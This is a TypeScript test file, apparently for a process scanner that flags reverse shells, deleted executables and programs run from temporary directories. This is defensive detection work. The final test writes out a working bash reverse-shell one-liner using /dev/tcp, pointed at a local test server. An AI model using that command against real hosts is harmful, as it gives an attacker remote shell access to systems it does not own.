import { spawn } from "node:child_process";
import { chmodSync, copyFileSync, mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server, type Socket } from "node:net";
import path from "node:path";
import { afterEach, beforeEach, expect, it } from "vitest";
import { HostRoot } from "../host/host-root";
import { TrialHost } from "../scans/trial-host";
import { scanProcesses } from "./processes";

let host: TrialHost;
beforeEach(() => {
  host = new TrialHost();
  host.write("/proc/uptime", "100000.00 190000.00\n");
});
afterEach(() => host.remove());

/** What is counted of each type, without those of which there are none. */
async function countsOf(one: TrialHost | "this machine", configuration?: string) {
  const context = host.context(configuration);
  const { samples, findings, problems } = await scanProcesses(
    one === "this machine" ? { ...context, host: new HostRoot("/") } : context,
  );
  const counts = samples.filter(({ value }) => value > 0).map(({ labels, value }) => [labels.type, value]);
  return { counts: Object.fromEntries(counts), findings, problems };
}

it.each(["fd/0", "fd/1"])("a shell with a TCP connection as its %s is a reverse shell", async (descriptor) => {
  const table = "   0: 0100007F:D2F4 3200000A:115C 01 0:0 00:0 0     0        0 500 1 0\n";
  const shell = { comm: "sh\n", cmdline: "sh\0-i\0", exe: "/usr/bin/dash", "net/tcp": table };
  host.process(900, { "fd/0": "/dev/null", "fd/1": "/dev/null", ...shell, [descriptor]: "socket:[500]" });
  host.process(901, { ...shell, exe: "/usr/sbin/sshd", "fd/0": "socket:[500]" });
  expect((await countsOf(host)).counts).toEqual({ reverse_shell: 1 });
});

const container = "0::/system.slice/docker-3f0c1d2e4b5a69788796a5b4c3d2e1f03f0c1d2e4b5a69788796a5b4c3d2e1f0.scope\n";

it("an ordinary process is nothing", async () => {
  host.process(700, { comm: "sshd\n", cmdline: "sshd: /usr/sbin/sshd -D\0", exe: "/usr/sbin/sshd" });
  // A thread of the kernel: no executable, no arguments.
  host.process(2, { comm: "kthreadd\n", cmdline: "" });
  expect(await countsOf(host)).toEqual({ counts: {}, findings: [], problems: [] });
});

it("tells of a program that was deleted, with its container and without its arguments", async () => {
  host.process(900, {
    comm: "worker\n",
    cmdline: "worker\0--password=secret\0",
    exe: "/tmp/worker (deleted)",
    cgroup: container,
    status: "Name:\tworker\nUid:\t1000\t1000\t1000\t1000\n",
  });
  const { counts, findings } = await countsOf(host);
  expect(counts).toEqual({ deleted_executable: 1, tmp_executable: 1 });
  expect(findings[0]).toEqual({
    finding: "deleted_executable",
    pid: 900,
    user: 1000,
    name: "worker",
    executable: "/tmp/worker (deleted)",
    container: "3f0c1d2e4b5a",
  });
  expect(JSON.stringify(findings)).not.toContain("secret");
});

it.each(["/tmp/a", "/var/tmp/.x/a", "/dev/shm/a"])("a program from %s is in an odd place", async (exe) => {
  host.process(900, { comm: "a\n", cmdline: "a\0", exe });
  expect((await countsOf(host)).counts).toEqual({ tmp_executable: 1 });
});

it.each(["/srv/tmp/a", "/home/a/tmp/a", "/tmpfs/a"])("a program from %s is not", async (exe) => {
  host.process(900, { comm: "a\n", cmdline: "a\0", exe });
  expect((await countsOf(host)).counts).toEqual({});
});

it("passes over what is known to run there", async () => {
  host.process(900, { comm: "editor\n", cmdline: "editor\0", exe: "/tmp/.mount_editAbC/editor" });
  expect((await countsOf(host, "scans: { processes: { ignore: ['/tmp/.mount_*'] } }")).counts).toEqual({});
});

/** `/proc/pid/stat` of a process that began so many seconds ago; field 22 is the time in hundredths. */
const startedAgo = (seconds: number) => `900 (runc:[2:INIT]) S 1 ${"0 ".repeat(17)}${(100_000 - seconds) * 100} 0 0\n`;

it("passes over containers that are just being started, and not over what goes on looking so", async () => {
  const exe = "/memfd:runc_cloned:/proc/self/exe (deleted)";
  host.process(900, { comm: "runc:[2:INIT]\n", cmdline: "runc\0init\0", exe, stat: startedAgo(2) });
  expect((await countsOf(host)).counts).toEqual({});
  host.write("/proc/900/stat", startedAgo(600));
  expect((await countsOf(host)).counts).toEqual({ deleted_executable: 1 });
});

it("a program from memory is one without a file", async () => {
  host.process(900, { comm: "3\n", cmdline: "[kworker]\0", exe: "/memfd:x (deleted)", stat: startedAgo(2) });
  expect((await countsOf(host)).counts).toEqual({ deleted_executable: 1 });
});

it("a shell on a local socket or a pipe is no reverse shell", async () => {
  const shell = { comm: "bash\n", cmdline: "bash\0-c\0true\0", exe: "/usr/bin/bash", "net/tcp": "", "net/tcp6": "" };
  host.process(900, { ...shell, "fd/0": "socket:[500]", "fd/1": "pipe:[501]" });
  host.process(901, { ...shell, "fd/0": "/dev/pts/0", "fd/1": "/dev/pts/0" });
  expect((await countsOf(host)).counts).toEqual({});
});

it("sees a real program that runs from a deleted file in /tmp, and that it has ended", async () => {
  const folder = mkdtempSync("/tmp/programs-");
  const program = path.join(folder, "sleeper");
  copyFileSync("/usr/bin/sleep", program);
  chmodSync(program, 0o755);
  const child = spawn(program, ["60"]);
  await new Promise((resolve) => child.once("spawn", resolve));
  rmSync(folder, { recursive: true });
  const during = await countsOf("this machine");
  const found = during.findings.filter(({ pid }) => pid === child.pid).map(({ finding }) => finding);
  expect(found).toEqual(["deleted_executable", "tmp_executable"]);
  child.kill("SIGKILL");
  await new Promise((resolve) => child.once("exit", resolve));
  const after = await countsOf("this machine");
  expect(after.findings.filter(({ pid }) => pid === child.pid)).toEqual([]);
});

it("sees a real shell whose input is a network connection", async () => {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const accepted = new Promise<Socket>((resolve) => server.once("connection", resolve));
  const { port } = server.address() as { port: number };
  // As attackers do it.
  const child = spawn("bash", ["-c", `exec bash -i <> /dev/tcp/127.0.0.1/${port} >&0 2>&0`], { stdio: "ignore" });
  const socket = await accepted;
  await new Promise((resolve) => socket.once("data", resolve));
  const { findings } = await countsOf("this machine");
  expect(findings.filter(({ pid }) => pid === child.pid)).toEqual([
    expect.objectContaining({ finding: "reverse_shell", name: "bash" }),
  ]);
  child.kill("SIGKILL");
  await close(socket, server);
});

async function close(socket: Socket, server: Server): Promise<void> {
  socket.destroy();
  await new Promise((resolve) => server.close(resolve));
}
